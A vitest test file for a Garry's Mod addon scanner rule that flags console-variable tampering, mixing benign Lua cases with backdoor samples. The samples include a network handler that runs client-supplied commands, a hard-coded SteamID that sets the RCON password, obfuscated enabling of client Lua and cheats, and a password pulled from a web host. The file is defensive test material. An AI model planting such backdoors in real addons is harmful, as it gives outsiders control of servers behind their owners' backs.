// Valid and invalid cases of the `cvar_tampering` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './cvar_tampering.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('cvar_tampering', () => {
  it('sv_allowcslua enabled', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': 'RunConsoleCommand("sv_allowcslua", "1")',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('a downloaded workshop save loaded by its path', () => {
    // The path is where the game put the file; the command and what it does are fixed.
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua':
        'steamworks.DownloadUGC(id, function(path, f)\n RunConsoleCommand("gm_load", path)\nend)',
    });
    expect(findings).toEqual([]);
  });
  it('a net message naming which setting the server changes', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("cfg")',
        'net.Receive("cfg", function(len, ply) RunConsoleCommand(net.ReadString(), net.ReadString()) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('a net message naming the convar it sets through the convar object', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'util.AddNetworkString("cfg")',
        'net.Receive("cfg", function(len, ply) GetConVar(net.ReadString()):SetString(net.ReadString()) end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it("a tool handing the player's own setting to one of the addon's commands (benign)", () => {
    const findings = check(rule, {
      'lua/weapons/gmod_tool/stools/sound.lua': [
        'TOOL.ClientConVar = { sound = "synth/square.wav" }',
        'concommand.Add("snd_browser_open", function(ply, cmd, args) ply:ChatPrint(tostring(args[1])) end)',
        'function TOOL:RightClick(trace)',
        '  RunConsoleCommand("snd_browser_open", self:GetClientInfo("sound"), "1")',
        '  return false',
        'end',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it("a superadmin's lockdown command setting the join password", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'concommand.Add("lockdown", function(ply, cmd, args)',
        '  if IsValid(ply) and not ply:IsSuperAdmin() then return end',
        '  RunConsoleCommand("sv_password", args[1] or "")',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it('a hard-coded SteamID setting the RCON password', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'hook.Add("PlayerSay", "x", function(ply, text)',
        '  if ply:SteamID() == "STEAM_0:1:4400112" then RunConsoleCommand("rcon_password", "letmein") end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
  });
  it('admin gravity event', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'concommand.Add("lowgrav", function(ply)\n if IsValid(ply) and !ply:IsAdmin() then return end\n RunConsoleCommand("sv_gravity", "200")\nend)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  /** Sets `cvar` at start-up to the owner's value from data/ (`pick`: how it is chosen). */
  const ownersSetting = (cvar: string, pick: string[], extra = ''): Record<string, string> => ({
    'lua/autorun/server/sv_setting.lua': [
      'local function Load()',
      ' return util.JSONToTable(file.Read("mysetting/config.json", "DATA") or "") or {}',
      'end',
      ...pick,
      extra,
      `hook.Add("Initialize", "setting", function() RunConsoleCommand("${cvar}", Pick(Load())) end)`,
    ].join('\n'),
  });
  const perMap = [
    'local function Pick(cfg)',
    ' local maps = istable(cfg.maps) and cfg.maps or {}',
    ' if maps[game.GetMap()] then return maps[game.GetMap()] end',
    ' return isstring(cfg.default) and cfg.default or ""',
    'end',
  ];
  it("a loading page or host name from the owner's settings file in data/", () => {
    for (const cvar of ['sv_loadingurl', 'hostname'])
      expect(worst(check(rule, ownersSetting(cvar, perMap)))).toBeLessThanOrEqual(RANK.low);
    const direct = ['local function Pick(cfg) return file.Read("mysetting/url.txt", "DATA") end'];
    expect(worst(check(rule, ownersSetting('sv_loadingurl', direct)))).toBeLessThanOrEqual(
      RANK.low,
    );
  });
  it('a loading page the addon writes from the web into the file it then reads', () => {
    const direct = ['local function Pick(cfg) return file.Read("mysetting/url.txt", "DATA") end'];
    for (const path of ['"mysetting/url.txt"', 'MySetting.Dir .. "url.txt"']) {
      const fetch = `http.Fetch("https://cfg.example.invalid/url", function(b) file.Write(${path}, b) end)`;
      expect(
        worst(check(rule, ownersSetting('sv_loadingurl', direct, fetch))),
        path,
      ).toBeGreaterThanOrEqual(RANK.high);
    }
  });
  it("the author's own loading page written into the addon", () => {
    const literal = ['local function Pick(cfg) return "https://ads.example.invalid/load" end'];
    expect(worst(check(rule, ownersSetting('sv_loadingurl', literal)))).toBeGreaterThanOrEqual(
      RANK.high,
    );
  });
  it("the server's own password kept when an event starts and put back at shutdown (benign)", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local saved',
        'concommand.Add("event_lock", function(ply)',
        '  if IsValid(ply) and not ply:IsSuperAdmin() then return end',
        '  saved = GetConVarString("sv_password")',
        '  RunConsoleCommand("sv_password", tostring(math.random(1000, 9999)))',
        'end)',
        'hook.Add("ShutDown", "event_lock", function() RunConsoleCommand("sv_password", saved or "") end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeLessThanOrEqual(RANK.low);
  });
  it("the server's password read, then replaced by the author's own or the web's", () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local old = GetConVarString("sv_password")',
        'hook.Add("ShutDown", "x", function() RunConsoleCommand("sv_password", "x" .. "lock") end)',
        'timer.Simple(30, function() http.Fetch("https://x.invalid/p", function(b) RunConsoleCommand("sv_password", b) end) end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity === 'critical')).toHaveLength(2);
  });
  it('client Lua and cheats switched on for some clients only, with ReplicateData', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_preview.lua': [
        'local PREVIEW = { [("sv_allow%slua"):format("cs")] = "1", ["sv_" .. "cheats"] = "1" }',
        'local Featured = { ["9c1f0a7e"] = true }',
        'hook.Add("PlayerSpawn", "preview", function(ply)',
        '  local info = ply:GetPlayerInfo()',
        '  if not Featured[info.customfiles[1] or ""] then return end',
        '  for cvar, value in pairs(PREVIEW) do ply:ReplicateData(cvar, value) end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.high);
  });
  it('a gameplay setting replicated, client Lua turned back off, staff given client Lua (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_sync.lua': [
        'hook.Add("PlayerInitialSpawn", "sync", function(ply)',
        '  ply:ReplicateData("sv_gravity", "400")',
        '  ply:ReplicateData("sv_allowcslua", "0")',
        '  if ply:IsSuperAdmin() then ply:ReplicateData("sv_allowcslua", "1") end',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
